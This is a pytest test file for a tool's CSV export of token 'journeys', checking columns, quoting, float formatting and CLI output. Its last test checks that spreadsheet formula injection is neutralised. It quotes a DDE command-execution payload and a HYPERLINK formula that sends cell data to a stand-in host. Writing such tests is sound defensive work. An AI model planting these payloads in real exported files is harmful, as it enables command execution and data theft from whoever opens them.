"""The CSV form of a journey (indexer/journey_csv.py): its columns and values checked against the JSON, the
quoting and missing values, and `journeys analyze --csv` printing exactly it."""

from __future__ import annotations

import csv
import io
import json

from hostile_journey import HOSTILE_JOURNEY

from journeys import load_journey
from journeys.indexer.engine import JourneyEngine
from journeys.indexer.journey_csv import FIXED_COLUMNS, journey_csv
from journeys.indexer.records import Journey, Token
from test_cli import run_cli

TEXT = 'Time flies like an arrow, said "the" fly.'


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_columns_and_values_equal_the_json(tiny_engines):
    journey = tiny_engines["roberta"].analyze(TEXT, top_k=3)
    data = json.loads(journey.to_json())
    rows = parsed(journey_csv(journey))
    neighbours = [f"neighbour_{n}_{field}" for n in (1, 2, 3) for field in ("id", "text", "similarity")]
    assert list(rows[0]) == [*FIXED_COLUMNS, "similarity", *neighbours]
    layers = data["model"]["num_layers"]
    assert len(rows) == len(data["variants"]) * len(data["tokens"]) * layers
    expected = [
        (variant, position, layer)
        for variant in data["variants"]
        for position in range(len(data["tokens"]))
        for layer in range(layers)
    ]
    assert [(r["variant"], int(r["position"]), int(r["layer"])) for r in rows] == expected
    for row in rows:
        result, position, layer = data["variants"][row["variant"]], int(row["position"]), int(row["layer"])
        token = data["tokens"][position]
        assert (row["model"], row["method"]) == (data["model"]["name"], data["method"])
        assert (int(row["token_id"]), row["token_text"]) == (token["id"], token["text"])
        assert int(row["rank"]) == result["rank"][position][layer]
        assert float(row["similarity"]) == result["similarity"][position][layer]  # exact: repr round-trips
        for n, neighbour in enumerate(result["neighbours"][position][layer], start=1):
            assert int(row[f"neighbour_{n}_id"]) == neighbour["id"]
            assert row[f"neighbour_{n}_text"] == neighbour["text"]
            assert float(row[f"neighbour_{n}_similarity"]) == neighbour["similarity"]


def test_quotes_commas_and_missing_values_are_written_as_csv_readers_expect(tiny_engines):
    journey = tiny_engines["bert"].analyze("time flies", top_k=2)
    journey.tokens[1] = Token(journey.tokens[1].id, 'say "hi", then\nleave')
    journey.variants["raw"].rank[1][0] = None
    journey.variants["raw"].similarity[1][0] = None
    text = journey_csv(journey)
    assert '"say ""hi"", then\nleave"' in text
    row = parsed(text)[journey.model.num_layers]  # token 1, layer 0, raw
    assert row["token_text"] == 'say "hi", then\nleave'
    assert row["rank"] == "" and row["similarity"] == ""
    assert text.endswith("\n") and "\r" not in text


def test_floats_are_written_as_python_writes_them():
    journey = Journey.from_dict(
        {
            "model": {
                "name": "m",
                "num_layers": 1,
                "hidden_size": 2,
                "vocab_size": 3,
                "precision": {
                    "device": "cpu",
                    "dtype": "float32",
                    "torch": "2.13.0+cpu",
                    "matmul": "highest",
                },
            },
            "method": "exact",
            "tokens": [{"id": 0, "text": "a"}],
            "variants": {
                "raw": {
                    "rank": [[0]],
                    "similarity": [[1.0]],
                    "neighbours": [[[{"id": 0, "text": "a", "similarity": 1e-05}]]],
                }
            },
        }
    )
    assert journey_csv(journey).splitlines()[1] == "m,exact,raw,0,0,a,0,0,1.0,0,a,1e-05"


def test_analyze_csv_prints_the_csv_of_the_journey(tiny_model_folders, engine_settings):
    folder = str(tiny_model_folders["gpt2"])
    result = run_cli("analyze", "--model", folder, "--text", TEXT, "--csv", "--top-k", "4")
    assert result.returncode == 0, result.stderr
    assert result.stdout == journey_csv(
        JourneyEngine.load(folder, settings=engine_settings).analyze(TEXT, top_k=4)
    )


def test_csv_and_json_together_are_refused(tiny_model_folders):
    result = run_cli("analyze", "--model", str(tiny_model_folders["bert"]), "--text", "x", "--csv", "--json")
    assert result.returncode == 2 and "not allowed with" in result.stderr


def test_cells_a_spreadsheet_would_run_are_written_as_text_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(HOSTILE_JOURNEY), encoding="utf-8")
    text = journey_csv(load_journey(path))
    rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert [row[5] for row in rows] == [
        "'=cmd|' /C calc'!A0",
        "'+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "plain",
    ]
    assert {row[0] for row in rows} == {"'" + HOSTILE_JOURNEY["model"]["name"]}
    assert [row[8] for row in rows] == ["-0.5", "0.25", "1.0", "-1e-05", "0.0", "-0.0", "0.5"]
    assert {(row[10], row[11]) for row in rows} == {("'-", "-0.125")}
    assert '"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""click"")"' in text
    cells = [cell for row in rows for cell in row]
    assert not [
        cell
        for cell in cells
        if cell.startswith(("=", "+", "@", "\t", "\r")) or (cell[:1] == "-" and not is_number(cell))
    ]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
